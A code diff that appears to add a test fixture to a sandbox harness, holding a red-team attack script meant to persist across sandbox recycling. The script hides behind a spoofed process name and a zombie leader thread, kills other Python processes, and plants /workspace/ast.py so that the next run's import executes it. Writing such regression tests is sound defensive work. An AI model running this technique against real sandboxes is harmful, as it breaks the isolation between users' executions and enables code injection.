@@ -1222,3 +1222,37 @@ def run_tap(suite, tap_stream):
     tap_stream.write(f"# {result.count - result.failed} passed, {result.failed} failed\n")
     tap_stream.flush()
     return result.failed
+
+
+# The red team's chain (issue #30 item 1), run by a client against its own recycled sandbox
+# (test_docker.py, test_recycling.py): a leftover named with a newline and a fake state, its
+# thread-group leader a zombie while its thread runs, kills every other Python process (the fork
+# server, a pre-started program) and plants /workspace/ast.py, which the driver's `import ast`
+# would run in the next execution.
+LEFTOVER_CHAIN_CODE = r"""
+import ctypes, os, threading, time
+program = os.getpid()
+if os.fork() == 0:
+    os.setsid()
+    libc = ctypes.CDLL(None)
+    libc.prctl(15, b"x\n) R 1 1 1", 0, 0, 0)  # PR_SET_NAME
+    def plant():
+        while True:
+            for p in os.listdir('/proc'):
+                try:
+                    if p.isdigit() and int(p) not in (os.getpid(), program, 1) and \
+                            b'python' in open(f'/proc/{p}/cmdline', 'rb').read():
+                        os.kill(int(p), 9)
+                except OSError:
+                    pass
+            try:
+                with open('/workspace/ast.py', 'w') as f:
+                    f.write("print('LEAKED FROM THE PREVIOUS EXECUTION')\n")
+            except OSError:
+                pass
+            time.sleep(0.005)
+    threading.Thread(target=plant).start()
+    time.sleep(0.2)
+    libc.syscall(60, 0)  # exit of the leader thread alone: a zombie leader, its thread runs
+print("planted")
+"""
